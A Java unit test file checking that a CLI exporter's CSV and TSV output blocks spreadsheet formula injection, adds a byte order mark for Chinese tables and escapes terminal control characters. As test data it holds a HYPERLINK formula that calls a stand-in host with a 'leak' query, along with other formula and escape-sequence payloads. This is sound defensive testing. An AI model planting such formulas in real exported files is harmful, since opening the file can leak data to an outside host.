package org.genaitimeline.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.genaitimeline.export.CliTest.Run;
import org.genaitimeline.tabledata.SpreadsheetCells;
import org.genaitimeline.tabledata.Tsv;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** CSV that a spreadsheet opens safely: no live formulas, and Chinese read as UTF-8. */
class CsvSafetyTest {

    private static final String FORMULA = "=HYPERLINK(\"http://example.invalid/?leak\",\"GPT-3\")";

    @TempDir
    Path tmp;

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"})
    void aCellThatStartsLikeAFormulaGetsAnApostrophe(String cell) {
        assertThat(SpreadsheetCells.defuse(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"GPT-3", "175B", "", "'quoted", "1 = 1", "稳定扩散"})
    void otherCellsAreLeftAlone(String cell) {
        assertThat(SpreadsheetCells.defuse(cell)).isEqualTo(cell);
    }

    @Test
    void theClipboardsRowsAreDefusedToo() {
        assertThat(Tsv.of(List.of("Model"), List.of(List.of(FORMULA)))).isEqualTo("Model\n'" + FORMULA + "\n");
    }

    @Test
    void aFormulaNameIsWrittenAsTextUnlessRawIsAsked() throws IOException {
        Path catalog = catalogWithName(FORMULA);
        Run safe = CliTest.run("--list", "--catalog", catalog.toString(), "--format", "csv", "--lang", "en");
        assertThat(safe.code()).as(safe.err()).isZero();
        List<String> names = CliTest.parseCsv(safe.out()).stream().map(r -> r.get(0)).toList();
        assertThat(names).contains("'" + FORMULA).doesNotContain(FORMULA);

        Run raw = CliTest.run("--list", "--catalog", catalog.toString(), "--format", "csv", "--raw-csv");
        assertThat(CliTest.parseCsv(raw.out()).stream().map(r -> r.get(0))).contains(FORMULA);
    }

    @Test
    void aChineseTableFileStartsWithAByteOrderMarkAndAnEnglishOneDoesNot() throws IOException {
        assertThat(hasBom(tableBytes("--lang", "zh"))).isTrue();
        assertThat(hasBom(tableBytes("--lang", "zh", "--no-csv-bom"))).isFalse();
        assertThat(hasBom(tableBytes("--lang", "en"))).isFalse();
        assertThat(hasBom(tableBytes("--lang", "en", "--csv-bom"))).isTrue();
        String zh = new String(tableBytes("--lang", "zh"), StandardCharsets.UTF_8);
        assertThat(zh.substring(1)).as("the text after the mark is the same table").startsWith("模型");
    }

    @Test
    void theTerminalSeesEscapesNotControlCharacters() {
        TableText t = new TableText(List.of("Model"), List.of(
                List.of("red\u001B[31m"), List.of("bell\u0007"), List.of("csi\u009B2J"), List.of("rlo\u202Eabc"),
                List.of("half\uD800"), List.of("low\uDC00x"), List.of("emoji\uD83D\uDE00"), List.of("稳定扩散")));
        List<String> cells = t.forTerminal().rows().stream().map(r -> r.get(0)).toList();
        assertThat(cells).containsExactly("red\\u001B[31m", "bell\\u0007", "csi\\u009B2J", "rlo\\u202Eabc",
                "half\\uD800", "low\\uDC00x", "emoji\uD83D\uDE00", "稳定扩散");
        assertThat(String.join("", cells).chars()).noneMatch(c -> c < 0x20 || (c >= 0x7F && c <= 0x9F));
    }

    private static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

    private static boolean hasBom(byte[] bytes) {
        return bytes.length >= 3 && java.util.Arrays.equals(java.util.Arrays.copyOf(bytes, 3), BOM);
    }

    private byte[] tableBytes(String... extra) throws IOException {
        Path out = tmp.resolve("t" + System.nanoTime() + ".csv");
        List<String> args = new java.util.ArrayList<>(List.of("--export", "table-14-1", "--out", out.toString(),
                "--catalog", CliTest.CATALOG.toString()));
        args.addAll(List.of(extra));
        Run r = CliTest.run(args.toArray(String[]::new));
        assertThat(r.code()).as(r.err()).isZero();
        return Files.readAllBytes(out);
    }

    private Path catalogWithName(String name) throws IOException {
        String text = Files.readString(CliTest.CATALOG).replace("\"name\": \"GPT-3\"",
                "\"name\": " + new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(name));
        assertThat(text).contains("HYPERLINK");
        Path file = tmp.resolve("models.json");
        Files.writeString(file, text);
        Files.copy(CliTest.CATALOG.resolveSibling("eras.json"), tmp.resolve("eras.json"));
        return file;
    }
}
